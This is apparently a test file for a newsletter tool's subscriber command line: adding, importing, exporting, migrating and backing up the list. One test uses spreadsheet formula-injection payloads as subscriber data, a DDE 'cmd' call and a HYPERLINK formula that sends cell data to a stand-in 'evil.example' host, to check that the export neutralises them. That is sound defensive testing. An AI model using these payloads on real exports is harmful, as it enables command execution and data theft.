import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { statSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { BUILT_CLI, makeSite, type Site } from '../helpers.js';

const NOW = '2026-03-01T10:00:00Z';

const list = async (site: Site, ...args: string[]) => JSON.parse((await site.run('subscribers', 'list', '--json', ...args)).out) as { email: string; name: string; status: string; topics: string[] }[];

test('add, update, remove and purge; addresses trimmed, validated and matched in any case', async (t) => {
  const site = await makeSite(t);
  assert.equal((await site.run('subscribers', 'add', '  Ada@Example.com ', '--name', 'Ada', '--topics', 'work, life', '--now', NOW)).code, 0);
  const again = await site.run('subscribers', 'add', 'ada@example.COM', '--topics', 'books', '--now', '2026-03-02T10:00:00Z');
  assert.equal(again.code, 0);
  assert.match(again.out, /^updated/);
  // A name as the form and the import take it: no control characters, one space between words.
  assert.equal((await site.run('subscribers', 'add', 'nl@example.com', '--name', ' New\nLine\u0007  Reader\u202e ')).code, 0);
  assert.equal((await list(site)).find((row) => row.email === 'nl@example.com')?.name, 'New Line Reader');
  await site.run('subscribers', 'remove', 'nl@example.com', '--purge');
  const bad = await site.run('subscribers', 'add', 'not-an-address');
  assert.equal(bad.code, 2);
  assert.match(bad.err, /"not-an-address" is not an email address/);

  assert.equal((await site.run('subscribers', 'export')).out, 'email,name,status,topics,created_at,updated_at\nAda@Example.com,Ada,active,books,2026-03-01T10:00:00.000Z,2026-03-02T10:00:00.000Z');

  assert.equal((await site.run('subscribers', 'remove', 'ADA@example.com', '--now', NOW)).code, 0);
  assert.equal((await list(site))[0]!.status, 'unsubscribed');
  const readd = await site.run('subscribers', 'add', 'ada@example.com');
  assert.equal(readd.code, 1);
  assert.match(readd.err, /is unsubscribed; herald does not re-add them/);

  assert.equal((await site.run('subscribers', 'remove', 'ada@example.com', '--purge')).code, 0);
  assert.deepEqual(await list(site), []);
  assert.equal((await site.run('subscribers', 'remove', 'ada@example.com')).code, 1);
});

test('addresses with invisible or direction-changing characters are refused', async (t) => {
  const site = await makeSite(t);
  for (const address of ['ab\u202Ecd@example.com', 'ann\u200B@example.com', 'bob\u2066@example.com', 'eve\u00AD@example.com']) {
    const result = await site.run('subscribers', 'add', address);
    assert.equal(result.code, 2, JSON.stringify(address));
  }
});

test('the IDN and punycode forms of one address are one subscriber', async (t) => {
  const site = await makeSite(t);
  assert.match((await site.run('subscribers', 'add', 'ada@bücher.example')).out, /^added/);
  assert.match((await site.run('subscribers', 'add', 'ADA@xn--bcher-kva.example', '--name', 'Ada')).out, /^updated/);
  const rows = await list(site);
  assert.equal(rows.length, 1);
  assert.equal(rows[0]!.name, 'Ada');
});

test('list filters by status; a bad --status is named', async (t) => {
  const site = await makeSite(t);
  await site.write('subscribers/subscribers.csv', 'email,name,status,topics,created_at,updated_at\na@example.com,A,active,,,\nb@example.com,B,pending,,,\nc@example.com,C,bounced,,,\n');
  const pending = await list(site, '--status', 'pending');
  assert.deepEqual(pending.map((s) => s.email), ['b@example.com']);
  const text = await site.run('subscribers', 'list');
  assert.match(text.out, /3 shown; 1 active, 1 pending, 0 unsubscribed, 1 bounced, 0 complained/);
  const wrong = await site.run('subscribers', 'list', '--status', 'gone');
  assert.equal(wrong.code, 2);
  assert.match(wrong.err, /--status "gone" is not a status \(use one of active, pending, unsubscribed, bounced, complained\)/);
});

test('an existing subscribers.csv moves into the database once: extra columns kept, bad rows reported by line and left in the CSV', async (t) => {
  const site = await makeSite(t);
  const original =
    'email,name,status,topics,created_at,updated_at,source\nok@example.com,"Smith, Jo",active,"a,b",2025-05-05T10:00:00.000Z,y,twitter\nnot an address,X,active,,,,blog\ndup@example.com,D,active,,,,\nDUP@example.com,D2,active,,,,\nodd@example.com,O,sleeping,,,,\nleft@example.com,L,unsubscribed,,,,\n';
  await site.write('subscribers/subscribers.csv', original);
  const first = await site.run('subscribers', 'list', '--now', NOW);
  assert.match(first.err, /moved the subscriber list into \.herald\/herald\.db: 3 subscribers from subscribers\/subscribers\.csv \(3 unreadable rows stay in the CSV only/);
  assert.match(first.err, /subscribers\/subscribers\.csv:3: "not an address" is not an email address/);
  assert.match(first.err, /subscribers\/subscribers\.csv:5: DUP@example\.com is already on line 4/);
  assert.match(first.err, /subscribers\/subscribers\.csv:6: status "sleeping" is not one herald knows/);
  assert.equal(await site.read('subscribers/subscribers.csv'), original, 'the CSV is left exactly as it was');
  const exported = (await site.run('subscribers', 'export')).out;
  assert.match(exported, /^email,name,status,topics,created_at,updated_at,source$/m);
  assert.match(exported, /^ok@example\.com,"Smith, Jo",active,"a,b",2025-05-05T10:00:00\.000Z,2026-03-01T10:00:00\.000Z,twitter$/m);
  assert.match(exported, /^left@example\.com,L,unsubscribed,/m);
  const second = await site.run('subscribers', 'list');
  assert.doesNotMatch(second.err, /moved the subscriber list/, 'once only');
  await site.write('subscribers/subscribers.csv', 'email\nlate@example.com\n');
  assert.equal((await list(site)).length, 3, 'the CSV is no longer read');
  assert.equal(statSync(join(site.dir, '.herald/herald.db')).mode & 0o777, 0o600);
  assert.equal(statSync(join(site.dir, '.herald')).mode & 0o777, 0o700);
});

test('import reads other services exports, reports rejected rows by line, and is idempotent', async (t) => {
  const site = await makeSite(t);
  await site.run('subscribers', 'add', 'left@example.com');
  await site.run('subscribers', 'remove', 'left@example.com');
  await site.write(
    'mailchimp.csv',
    'Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME\nzoe@example.com,Zoe,Zeta,2,2020-01-01\nnot-an-email,X,Y,1,\nLEFT@example.com,Back,Again,1,\n,,,,\nZOE@example.com,Zoe,Again,1,\n',
  );
  const first = await site.run('subscribers', 'import', 'mailchimp.csv', '--now', NOW);
  assert.equal(first.code, 1);
  assert.match(first.out, /imported 1, already on the list 1, rejected 3/);
  assert.match(first.err, /^mailchimp\.csv:3: "not-an-email" is not an email address/m);
  assert.match(first.err, /^mailchimp\.csv:5: no email address/m);
  assert.match(first.err, /^mailchimp\.csv:6: ZOE@example\.com is already on line 2 of this file/m);
  const after = (await site.run('subscribers', 'export')).out;
  assert.match(after, /zoe@example\.com,Zoe Zeta,active/);
  assert.match(after, /left@example\.com,,unsubscribed/, 'an import never reactivates someone who unsubscribed');
  assert.match(after, /,MEMBER_RATING,OPTIN_TIME$/m, 'other columns are kept');

  const second = await site.run('subscribers', 'import', 'mailchimp.csv', '--now', '2026-04-01T00:00:00Z');
  assert.match(second.out, /imported 0, already on the list 2/);
  assert.equal((await site.run('subscribers', 'export')).out, after, 'importing twice changes nothing');

  await site.write('substack.csv', 'email,active_subscription,created_at\nsam@example.com,true,2021-05-05\n');
  assert.match((await site.run('subscribers', 'import', 'substack.csv')).out, /imported 1/);
  await site.write('other.csv', 'Email,Status\ngone@example.com,unsubscribed\n');
  await site.run('subscribers', 'import', 'other.csv');
  assert.match((await site.run('subscribers', 'export')).out, /gone@example\.com,,unsubscribed/);
  const noFile = await site.run('subscribers', 'import', 'nothing.csv');
  assert.equal(noFile.code, 2);
  await site.write('nomail.csv', 'name,city\nX,Y\n');
  const noEmail = await site.run('subscribers', 'import', 'nomail.csv');
  assert.equal(noEmail.code, 1);
  assert.match(noEmail.err, /nomail\.csv:1: no email column in the header row/);
});

test('export prints the list as CSV that a spreadsheet cannot read as formulas; it imports back unchanged', async (t) => {
  const site = await makeSite(t);
  await site.run('subscribers', 'add', 'a@example.com', '--name', 'Ann, A.', '--now', NOW);
  await site.run('subscribers', 'add', "=cmd|'/Ccalc'!A0@example.com", '--name', '=HYPERLINK("http://evil.example/?"&A2,"click")', '--topics', '+work,-life,@home', '--now', NOW);
  await site.run('subscribers', 'add', "'-x@example.com", '--name', "'quoted", '--now', NOW);
  const exported = (await site.run('subscribers', 'export')).out;
  const lines = exported.split('\n');
  assert.equal(lines[0], 'email,name,status,topics,created_at,updated_at');
  assert.equal(lines.find((line) => line.startsWith('a@')), 'a@example.com,"Ann, A.",active,,2026-03-01T10:00:00.000Z,2026-03-01T10:00:00.000Z');
  const evil = lines.find((line) => line.includes('cmd'))!;
  // Every cell of the row, as a spreadsheet splits it, starts with something other than = + - @ tab CR.
  const { parse } = await import('csv-parse/sync');
  const cells = (parse(exported) as string[][]).flat();
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${cell} (in ${evil})`);
  await site.write('back.csv', `${exported}\n`);
  const other = await makeSite(t);
  await other.write('back.csv', `${exported}\n`);
  assert.match((await other.run('subscribers', 'import', 'back.csv', '--now', NOW)).out, /imported 3/);
  const round = await list(other);
  assert.ok(round.some((row) => row.email === "=cmd|'/Ccalc'!A0@example.com" && row.name.startsWith('=HYPERLINK') && row.topics.join() === '+work,-life,@home'));
  assert.ok(round.some((row) => row.email === "'-x@example.com" && row.name === "'quoted"), 'a leading apostrophe survives the round trip');
});

test('concurrent writers lose no row: 12 processes adding at once', async (t) => {
  const site = await makeSite(t);
  const runs = Array.from({ length: 12 }, (_, i) =>
    new Promise<number>((resolve) => {
      const child = spawn(process.execPath, [BUILT_CLI, 'subscribers', 'add', `reader${i}@example.com`], { cwd: site.dir, stdio: 'ignore' });
      child.on('exit', (code) => resolve(code ?? 1));
    }),
  );
  assert.deepEqual(await Promise.all(runs), Array(12).fill(0));
  assert.equal((await list(site)).length, 12);
});

test('import reads semicolon- and tab-separated exports, with a BOM and CRLF line ends', async (t) => {
  const site = await makeSite(t);
  await site.write('excel.csv', '\uFEFFE-Mail;Name;Land\r\nanna@example.de;Schmidt, Anna;DE\r\n');
  await site.write('tabs.tsv', 'Email\tName\nted@example.com\tTed\n');
  assert.match((await site.run('subscribers', 'import', 'excel.csv')).out, /imported 1/);
  assert.match((await site.run('subscribers', 'import', 'tabs.tsv')).out, /imported 1/);
  const csv = (await site.run('subscribers', 'export')).out;
  assert.match(csv, /anna@example\.de,"Schmidt, Anna",active/);
  assert.match(csv, /ted@example\.com,Ted,active/);
});

test('backup writes a consistent copy of the database, mode 0600, and refuses to overwrite', async (t) => {
  const site = await makeSite(t);
  await site.run('subscribers', 'add', 'a@example.com');
  const result = await site.run('backup', 'copy.db');
  assert.equal(result.code, 0, result.err);
  assert.equal(statSync(join(site.dir, 'copy.db')).mode & 0o777, 0o600);
  const again = await site.run('backup', 'copy.db');
  assert.equal(again.code, 2);
  assert.match(again.err, /the file exists/);
  const restored = await makeSite(t, {}, 'database:\n  file: copy.db\n');
  const { copyFile } = await import('node:fs/promises');
  await copyFile(join(site.dir, 'copy.db'), join(restored.dir, 'copy.db'));
  assert.deepEqual((await list(restored)).map((row) => row.email), ['a@example.com']);
});
